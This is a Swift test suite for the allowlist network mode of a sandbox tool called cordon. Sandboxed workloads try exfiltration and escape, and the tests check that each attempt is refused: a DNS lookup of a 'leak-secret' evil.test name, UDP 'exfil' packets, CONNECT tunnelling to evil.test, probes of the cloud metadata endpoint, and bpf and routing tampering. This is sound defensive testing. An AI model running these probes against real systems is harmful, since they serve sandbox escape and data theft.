import CLinux
import CordonTestNetwork
import Foundation
import Testing

/// `network.mode = "allowlist"`: a sandbox reaches exactly the names its policy lists. Real
/// servers (egress_servers.py) listen on two TEST-NET-2 addresses (public-looking, so only the
/// policy decides) and an RFC 1918 one, in a network namespace the suite makes; `cordon` runs in
/// a second one joined to it by a veth pair (EgressNetwork), so its engine dials them as it would
/// the internet: the host's own addresses are the engine's own, which it refuses behind a name.
/// A DNS server there that logs every question stands in for the upstream resolver.
@Suite(.enabled(if: Harness.isRoot, "needs root: real sandboxes and network namespaces"), .serialized, .egressServers)
struct EgressTests {
    static let addressA = "198.51.100.7"
    static let addressB = "198.51.100.8"
    /// RFC 1918: refused even for a listed name unless an address rule lists it.
    static let addressPrivate = "10.200.0.7"
    static let addresses = [addressA, addressB, addressPrivate]

    final class Servers: @unchecked Sendable {
        let network: EgressNetwork
        let dir: String
        let ports: [String: Int]
        let process: Process
        let stdin: Pipe

        init() throws {
            network = try EgressNetwork(serving: EgressTests.addresses)
            dir = "\(Harness.scratch)/egress"
            try? FileManager.default.removeItem(atPath: dir)
            try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
            process = Process()
            let (path, arguments) = network.inServers(["/usr/bin/python3", "\(Harness.repo)/Tests/CordonSandboxTests/egress_servers.py", dir,
                                                       EgressTests.addressA, EgressTests.addressB, EgressTests.addressPrivate, EgressNetwork.serversLink])
            process.executableURL = URL(fileURLWithPath: path)
            process.arguments = arguments
            stdin = Pipe()
            let out = Pipe()
            process.standardInput = stdin
            process.standardOutput = out
            process.standardError = FileHandle.nullDevice
            do { try process.run() } catch {
                network.close()
                throw error
            }
            var line = Data()
            while line.count < 4096 {
                let byte = out.fileHandleForReading.readData(ofLength: 1)
                if byte.isEmpty || byte == Data("\n".utf8) { break }
                line.append(byte)
            }
            ports = (try? JSONSerialization.jsonObject(with: line) as? [String: Int]) ?? [:]
            guard ports.count == 7 else {
                stop()
                throw EgressNetwork.Failure(description: "egress test servers did not start: \(String(decoding: line, as: UTF8.self))")
            }
        }

        /// Ends the servers (by pid; they also end when their stdin closes) and the namespaces.
        func stop() {
            if process.isRunning { kill(process.processIdentifier, SIGTERM) }
            try? stdin.fileHandleForWriting.close()
            for _ in 0..<100 where process.isRunning { usleep(50_000) }
            if process.isRunning { kill(process.processIdentifier, SIGKILL) }
            network.close()
        }

        func log(_ name: String) -> String { (try? String(contentsOfFile: "\(dir)/\(name)", encoding: .utf8)) ?? "" }
        subscript(_ name: String) -> Int { ports[name]! }
    }

    /// The suite's servers and network, from `.egressServers`.
    @TaskLocal static var servers: Servers?
    var s: Servers { Self.servers! }

    /// A policy allowing `allow`, with the test CA readable at /ca.pem.
    func policy(_ name: String, _ allow: [String]) throws -> String {
        let path = "\(Harness.scratch)/policies/egress-\(name).toml"
        let list = allow.map { "\"\($0)\"" }.joined(separator: ", ")
        try """
            [policy]
            extends = ["default"]
            [filesystem]
            read_only = [{ path = "/ca.pem", source = "\(s.dir)/ca.pem" }]
            [network]
            mode = "allowlist"
            allow = [\(list)]
            """.write(toFile: path, atomically: true, encoding: .utf8)
        return path
    }

    /// `cordon run` in the supervisor's namespace, with the servers' DNS as its upstream.
    func run(_ policy: String, _ argv: [String]) -> Harness.Outcome {
        Harness.run(argv, policy: policy, options: ["--dns-upstream", "\(EgressNetwork.serversLink):\(s["dns"])", "--timeout", "30s"], in: s.network)
    }

    func python(_ policy: String, _ code: String) -> Harness.Outcome { run(policy, ["python3", "-c", code]) }

    var egress: (Harness.Outcome) -> [[String: Any]] { { $0.record["egress"] as? [[String: Any]] ?? [] } }

    @Test func listedNameIsReachableByClientsThatIgnoreProxies() throws {
        let p = try policy("reach", ["api.test:\(s["http"])", "api.test:\(s["https"])"])
        // No proxy variable is set: urllib, curl --noproxy and a bare socket go straight out.
        let py = python(p, "import urllib.request; print(urllib.request.urlopen('http://api.test:\(s["http"])/py', timeout=5).read().decode().strip())")
        #expect(py.status == 0, "\(py.stderr)")
        #expect(py.output == "hello from a for api.test:\(s["http"])")
        let curl = run(p, ["curl", "-sS", "--noproxy", "*", "--max-time", "5", "http://api.test:\(s["http"])/curl"])
        #expect(curl.output == "hello from a for api.test:\(s["http"])", "\(curl.stderr)")
        // TLS with the test CA: the SNI is the listed name.
        let tls = run(p, ["curl", "-sS", "--noproxy", "*", "--max-time", "5", "--cacert", "/ca.pem", "https://api.test:\(s["https"])/tls"])
        #expect(tls.output == "hello from a-tls for api.test:\(s["https"])", "\(tls.stderr)")
        let decisions = egress(tls)
        #expect(decisions.contains { $0["kind"] as? String == "connection" && $0["verdict"] as? String == "allowed"
            && $0["destination"] as? String == "\(Self.addressA):\(s["https"])" && ($0["bytesDown"] as? Int ?? 0) > 1000 }, "\(decisions)")
        #expect(decisions.contains { $0["kind"] as? String == "dns" && $0["name"] as? String == "api.test"
            && ($0["answers"] as? [String])?.contains(Self.addressA) == true })
    }

    @Test func unlistedNamesGetNXDOMAINAndNeverReachUpstream() throws {
        let p = try policy("nx", ["api.test:\(s["http"])"])
        let before = s.log("dns.log")
        let r = run(p, ["sh", "-c", "getent hosts api.test; getent hosts other.test; getent hosts leak-secret-4f2a.evil.test; echo done"])
        #expect(r.output.contains("\(Self.addressA)") && r.output.hasSuffix("done"), "\(r.output) \(r.stderr)")
        #expect(!r.output.contains("other.test"))
        let queries = String(s.log("dns.log").dropFirst(before.count))
        #expect(queries.contains("api.test 1"), "\(queries)")
        #expect(!queries.contains("other.test") && !queries.contains("evil.test"), "upstream saw: \(queries)")
        let denied = egress(r).filter { $0["verdict"] as? String == "denied" }.compactMap { $0["name"] as? String }
        #expect(Set(denied) == ["other.test", "leak-secret-4f2a.evil.test"], "\(denied)")
    }

    @Test func directAddressesAndMismatchedNamesAreRefused() throws {
        let p = try policy("mismatch", ["api.test:\(s["http"])", "api.test:\(s["https"])"])
        let marker = "direct-\(UInt32.random(in: 0...UInt32.max))"
        // Straight to the right address and port, with the right Host, but no lookup first.
        let direct = python(p, """
            import socket
            c = socket.create_connection(('\(Self.addressA)', \(s["http"])), timeout=5)
            c.sendall(b'GET /\(marker) HTTP/1.1\\r\\nHost: api.test:\(s["http"])\\r\\nConnection: close\\r\\n\\r\\n')
            print(repr(c.recv(200)))
            """)
        #expect(!direct.output.contains("hello"), "\(direct.output)")
        // The same through an IPv6 socket with the IPv4-mapped address: intercepted all the same.
        let mapped = python(p, """
            import socket
            c = socket.create_connection(('::ffff:\(Self.addressA)', \(s["http"])), timeout=5)
            c.sendall(b'GET /\(marker)-mapped HTTP/1.1\\r\\nHost: api.test:\(s["http"])\\r\\nConnection: close\\r\\n\\r\\n')
            try:
                print(repr(c.recv(200)))
            except ConnectionResetError:
                print('reset')
            """)
        #expect(mapped.output == "reset" || mapped.output == "b''", "\(mapped.output) \(mapped.stderr)")
        #expect(egress(mapped).contains { $0["verdict"] as? String == "denied" && $0["destination"] as? String == "\(Self.addressA):\(s["http"])" }, "\(egress(mapped))")
        // After a lookup of the listed name: its address with another Host header.
        let host = python(p, """
            import socket
            socket.getaddrinfo('api.test', \(s["http"]))
            c = socket.create_connection(('api.test', \(s["http"])), timeout=5)
            c.sendall(b'GET /\(marker)-host HTTP/1.1\\r\\nHost: other.test:\(s["http"])\\r\\nConnection: close\\r\\n\\r\\n')
            print(c.recv(200).decode().splitlines()[0])
            """)
        #expect(host.output.hasPrefix("HTTP/1.1 403"), "\(host.output) \(host.stderr)")
        // TLS to the listed name's address, presenting another name (curl --resolve skips DNS).
        let sni = run(p, ["sh", "-c", "getent hosts api.test >/dev/null; curl -sS --noproxy '*' --max-time 5 --cacert /ca.pem --resolve other.test:\(s["https"]):\(Self.addressA) https://other.test:\(s["https"])/\(marker)-sni; echo \" rc=$?\""])
        #expect(!sni.output.contains("hello") && !sni.output.contains("rc=0"), "\(sni.output)")
        #expect(!s.log("http.log").contains(marker), "a refused request reached the server: \(s.log("http.log"))")
        let reasons = egress(host).filter { $0["verdict"] as? String == "denied" }.compactMap { $0["reason"] as? String }
        #expect(!reasons.isEmpty, "\(egress(host))")
    }

    @Test func udpAndUnroutedTrafficGoNowhere() throws {
        let p = try policy("udp", ["api.test:\(s["http"])"])
        let r = python(p, """
            import socket, errno
            out = []
            for target in [('\(Self.addressA)', \(s["udp"])), ('8.8.8.8', 53), ('127.0.0.1', \(s["udp"]))]:
                u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                try:
                    u.sendto(b'exfil', target); out.append('sent')
                except OSError as e:
                    out.append(errno.errorcode[e.errno])
            try:
                socket.create_connection(('2001:db8::1', 443), timeout=2); out.append('v6 connected')
            except OSError as e:
                out.append('v6 ' + errno.errorcode.get(e.errno, str(e.errno)))
            for kind, proto in [(socket.SOCK_DGRAM, socket.IPPROTO_ICMP), (socket.SOCK_RAW, socket.IPPROTO_ICMP)]:
                try:
                    socket.socket(socket.AF_INET, kind, proto).sendto(bytes([8, 0, 247, 255, 0, 0, 0, 0]), ('\(Self.addressA)', 0)); out.append('echo sent')
                except OSError as e:
                    out.append('icmp ' + errno.errorcode[e.errno])
            print(' '.join(out))
            """)
        #expect(r.status == 0, "\(r.stderr)")
        // Only TCP has a route past loopback (to the proxy). To the sandbox's own loopback a
        // datagram is "sent" (and lands nowhere); elsewhere there is no route. ICMP sockets, ping
        // and raw, are refused by seccomp before any route is looked up.
        #expect(r.output == "ENETUNREACH ENETUNREACH sent v6 ENETUNREACH icmp EPERM icmp EPERM", "\(r.output)")
        usleep(200_000)
        #expect(!s.log("udp.log").contains("exfil"), "the UDP sink got: \(s.log("udp.log"))")
    }

    @Test func privateAddressesNeedAnExplicitRule() throws {
        let url = "http://priv.test:\(s["private_http"])/private"
        let code = "import urllib.request; print(urllib.request.urlopen('\(url)', timeout=5).read().decode().strip())"
        let refused = python(try policy("priv", ["priv.test:\(s["private_http"])"]), code)
        #expect(refused.status != 0 && !refused.output.contains("hello"), "\(refused.output)")
        #expect(egress(refused).contains { ($0["reason"] as? String ?? "").contains("private (10.0.0.0/8)") }, "\(egress(refused))")
        let allowed = python(try policy("priv-listed", ["priv.test:\(s["private_http"])", "\(Self.addressPrivate)/32:\(s["private_http"])"]), code)
        #expect(allowed.output == "hello from private for priv.test:\(s["private_http"])", "\(allowed.stderr)")
    }

    @Test func addressRulesCarryRawTCP() throws {
        let p = try policy("echo", ["\(Self.addressB)/32:\(s["echo"])"])
        let r = python(p, """
            import socket
            c = socket.create_connection(('\(Self.addressB)', \(s["echo"])), timeout=5)
            c.sendall(b'ping' * 1000); c.shutdown(socket.SHUT_WR)
            data = b''
            while chunk := c.recv(65536): data += chunk
            print(len(data), data[:4].decode())
            # The proxy accepts every connection it intercepts; a refused one is closed unanswered.
            o = socket.create_connection(('\(Self.addressB)', \(s["echo"]) + 1), timeout=3)
            try:
                o.sendall(b'ping'); print('other port', 'closed' if o.recv(10) == b'' else 'answered')
            except OSError as e:
                print('other port closed')
            """)
        #expect(r.output == "4000 ping\nother port closed", "\(r.output) \(r.stderr)")
        #expect(egress(r).contains { $0["verdict"] as? String == "denied" && $0["destination"] as? String == "\(Self.addressB):\(s["echo"] + 1)" })
        let allowed = egress(r).first { $0["verdict"] as? String == "allowed" }
        #expect(allowed?["bytesUp"] as? Int == 4000 && allowed?["bytesDown"] as? Int == 4000, "\(egress(r))")
    }

    /// The sandbox's TCP runs only over loopback, to the proxy: its namespace defaults to a
    /// congestion control without pacing whatever the host's is (this host's is BBR, whose
    /// pacing halved throughput through the relay), while the upstream hop keeps the host's.
    @Test func theLoopbackHopIsNotPaced() throws {
        let p = try policy("pacing", ["\(Self.addressB)/32:\(s["echo"])"])
        let r = python(p, """
            import socket
            c = socket.create_connection(('\(Self.addressB)', \(s["echo"])), timeout=5)
            ca = c.getsockopt(socket.IPPROTO_TCP, socket.TCP_CONGESTION, 16).rstrip(b'\\0').decode()
            c.sendall(b'ping'); c.shutdown(socket.SHUT_WR)
            print(open('/proc/sys/net/ipv4/tcp_congestion_control').read().strip(), ca, c.recv(10).decode())
            """)
        let parts = r.output.split(separator: " ").map(String.init)
        #expect(parts.count == 3 && ["cubic", "reno"].contains(parts[0]) && parts[1] == parts[0] && parts[2] == "ping", "\(r.output) \(r.stderr)")
    }

    /// The steering itself, in a namespace the test makes (run as root there, so nothing but the
    /// program stands in the way): a connection to any address reaches the proxy's listener with
    /// the dialled address as its own, even when a socket in the namespace listens on that port;
    /// once the listener is closed, the program drops connections rather than letting the
    /// normal lookup hand them to that socket.
    @Test func steeringReachesOnlyTheListenerAndFailsClosed() throws {
        let name = "cordon-steer-\(getpid())"
        try #require(Harness.exec("/usr/sbin/ip", ["netns", "add", name]).status == 0)
        defer { _ = Harness.exec("/usr/sbin/ip", ["netns", "del", name]) }
        let ns = open("/run/netns/\(name)", O_RDONLY | O_CLOEXEC)
        try #require(ns >= 0)
        defer { close(ns) }
        var tcp: Int32 = -1, udp: Int32 = -1, link: Int32 = -1, step: Int32 = 0
        try #require(cl_egress_netns_setup(ns, 3128, &tcp, &udp, &link, &step) == 0, "step \(step), errno \(errno)")
        defer { close(udp); close(link) }
        let client = """
            import socket, errno
            # IP_TRANSPARENT, like the proxy's: it could answer for any address if it got the SYN.
            own = socket.socket()
            own.setsockopt(socket.SOL_IP, 19, 1)
            own.bind(('0.0.0.0', 443)); own.listen()
            try:
                socket.create_connection(('203.0.113.9', 443), timeout=1).sendall(b'x'); print('connected')
            except socket.timeout:
                print('dropped')
            except OSError as e:
                print(errno.errorcode[e.errno])
            own.settimeout(0.2)
            try:
                own.accept(); print('own listener took it')
            except socket.timeout:
                pass
            """
        let first = Harness.exec("/usr/sbin/ip", ["netns", "exec", name, "python3", "-c", client])
        #expect(first.stdout.trimmingCharacters(in: .whitespacesAndNewlines) == "connected", "\(first.stdout) \(first.stderr)")
        let conn = accept(tcp, nil, nil)
        try #require(conn >= 0)
        var local = sockaddr_in()
        var len = socklen_t(MemoryLayout<sockaddr_in>.size)
        _ = withUnsafeMutablePointer(to: &local) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(conn, $0, &len) } }
        #expect(String(cString: inet_ntoa(local.sin_addr)) == "203.0.113.9" && UInt16(bigEndian: local.sin_port) == 443)
        close(conn)
        close(tcp)
        let second = Harness.exec("/usr/sbin/ip", ["netns", "exec", name, "python3", "-c", client])
        // The program drops the SYN: the client times out, and its own listener never sees it.
        #expect(second.stdout.trimmingCharacters(in: .whitespacesAndNewlines) == "dropped", "\(second.stdout) \(second.stderr)")
    }

    /// The workload attacks the plumbing: it cannot change the routing rule or the TCP route,
    /// detach or replace the sk_lookup program, take the proxy's or the resolver's port, talk its
    /// way past the proxy with CONNECT, or reach the metadata address.
    @Test func theWorkloadCannotRewireItsEgress() throws {
        let p = try policy("rewire", ["api.test:\(s["http"])"])
        let ip = run(p, ["sh", "-c", "ip rule del priority 100; echo rc=$?; ip route flush table 100; echo rc=$?; ip route add default dev lo; echo rc=$?"])
        #expect(ip.output == "rc=1\nrc=1\nrc=1", "\(ip.output) \(ip.stderr)")
        let r = python(p, """
            import ctypes, os, socket, errno
            libc = ctypes.CDLL(None, use_errno=True)
            bpf = {'x86_64': 321, 'aarch64': 280}[os.uname().machine]
            # BPF_PROG_QUERY and BPF_LINK_GET_FD_BY_ID: how a detach would start.
            for cmd in [16, 30]:
                attr = ctypes.create_string_buffer(128)
                if libc.syscall(bpf, cmd, attr, 128) != -1 or ctypes.get_errno() != errno.EPERM:
                    print('bpf', cmd, 'not refused'); raise SystemExit(1)
            out = []
            for kind, port in [(socket.SOCK_DGRAM, 53), (socket.SOCK_STREAM, 3128)]:
                try:
                    socket.socket(socket.AF_INET, kind).bind(('127.0.0.1', port)); out.append('bound')
                except OSError as e:
                    out.append(errno.errorcode[e.errno])
            c = socket.create_connection(('127.0.0.1', 3128), timeout=5)
            c.sendall(b'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n')
            out.append(c.recv(100).split(b'\\r\\n')[0].decode())
            m = socket.create_connection(('169.254.169.254', 80), timeout=5)
            m.sendall(b'GET /latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n')
            try:
                out.append('metadata ' + ('closed' if m.recv(100) == b'' else 'answered'))
            except ConnectionResetError:
                out.append('metadata closed')
            print(' | '.join(out))
            """)
        let parts = r.output.components(separatedBy: " | ")
        // Port 53 is privileged as well as taken; 3128 is only taken (by the supervisor).
        #expect(parts.count == 4 && ["EACCES", "EADDRINUSE"].contains(parts[0]), "\(r.output) \(r.stderr)")
        #expect(parts.dropFirst().elementsEqual(["EADDRINUSE", "HTTP/1.1 403 Forbidden", "metadata closed"]), "\(r.output)")
        #expect(egress(r).contains { $0["verdict"] as? String == "denied" && $0["destination"] as? String == "169.254.169.254:80" }, "\(egress(r))")
    }

    /// A shipped policy by name, plus only a read-only bind of the test CA (the servers' names
    /// resolve through a hosts file to the test server).
    func shipped(_ name: String) throws -> (policy: String, hosts: String) {
        let path = "\(Harness.scratch)/policies/shipped-\(name).toml"
        try "[policy]\nextends = [\"\(name)\"]\n[filesystem]\nread_only = [{ path = \"/ca.pem\", source = \"\(s.dir)/ca.pem\" }]\n"
            .write(toFile: path, atomically: true, encoding: .utf8)
        let hosts = "\(s.dir)/public-hosts"
        try ["api.anthropic.com", "pypi.org", "files.pythonhosted.org", "api.test"].map { "\(Self.addressA) \($0)\n" }.joined()
            .write(toFile: hosts, atomically: true, encoding: .utf8)
        return (path, hosts)
    }

    /// model-http: a model client reaches its one endpoint over HTTPS, and nothing else.
    @Test func modelHTTPReachesItsEndpointOnly() throws {
        let (p, hosts) = try shipped("model-http")
        let code = """
            import json, ssl, sys, urllib.request
            ctx = ssl.create_default_context(cafile='/ca.pem')
            req = urllib.request.Request('https://api.anthropic.com/v1/messages', method='POST',
                data=json.dumps({'messages': [{'role': 'user', 'content': 'olleh'}]}).encode(),
                headers={'content-type': 'application/json'})
            print(json.load(urllib.request.urlopen(req, context=ctx, timeout=5))['content'][0]['text'])
            for url in ['https://api.test:\(s["https"])/', 'https://pypi.org/simple/tinypkg/']:
                try:
                    urllib.request.urlopen(url, context=ctx, timeout=5); print('reached', url)
                except Exception as e:
                    print('refused', type(e).__name__)
            """
        let r = Harness.run(["python3", "-c", code], policy: p, options: ["--dns-hosts", hosts], in: s.network)
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.output == "model says: hello\nrefused URLError\nrefused URLError", "\(r.output)")
        #expect(r.record["policy"] as? String == "shipped-model-http")
    }

    /// installer: pip resolves and downloads from (the stand-ins for) PyPI into the workdir.
    @Test func installerRunsPip() throws {
        let (p, hosts) = try shipped("installer")
        let script = "python3 -m pip install --quiet --break-system-packages --cert /ca.pem --target /work/site tinypkg"
            + " && python3 -c 'import sys; sys.path.insert(0, \"/work/site\"); import tinypkg; print(\"installed\", tinypkg.VALUE)'"
            + " && python3 -c 'import urllib.request, ssl; urllib.request.urlopen(\"https://api.anthropic.com/\", context=ssl.create_default_context(cafile=\"/ca.pem\"), timeout=5)' 2>/dev/null || echo 'other names refused'"
        let r = Harness.run(["sh", "-c", script], policy: p, options: ["--dns-hosts", hosts, "--timeout", "60s"], in: s.network)
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.output == "installed 42\nother names refused", "\(r.output) \(r.stderr)")
        let names = Set(egress(r).filter { $0["kind"] as? String == "connection" && $0["verdict"] as? String == "allowed" }.compactMap { $0["name"] as? String })
        #expect(names == ["pypi.org", "files.pythonhosted.org"], "\(egress(r))")
    }

    /// The network mode "none" keeps its promise next to an allowlisting sandbox: nothing leaves,
    /// though the namespace cordon runs in routes to the server.
    @Test func noneStaysClosed() {
        let r = Harness.run(["python3", "-c", "import socket\ntry:\n socket.create_connection(('\(Self.addressA)', \(s["http"])), timeout=2); print('open')\nexcept OSError as e: print(type(e).__name__)"],
                            in: s.network)
        #expect(r.output == "OSError" || r.output.hasSuffix("Error"), "\(r.output)")
        #expect(r.record["egress"] == nil)
    }
}

/// Starts the egress servers and their network once for the suite, and ends both after it,
/// whatever its tests did.
struct EgressServersTrait: SuiteTrait, TestScoping {
    func provideScope(for test: Test, testCase: Test.Case?, performing function: @Sendable () async throws -> Void) async throws {
        let servers = try EgressTests.Servers()
        defer { servers.stop() }
        try await EgressTests.$servers.withValue(servers) { try await function() }
    }
}

extension Trait where Self == EgressServersTrait {
    static var egressServers: Self { Self() }
}
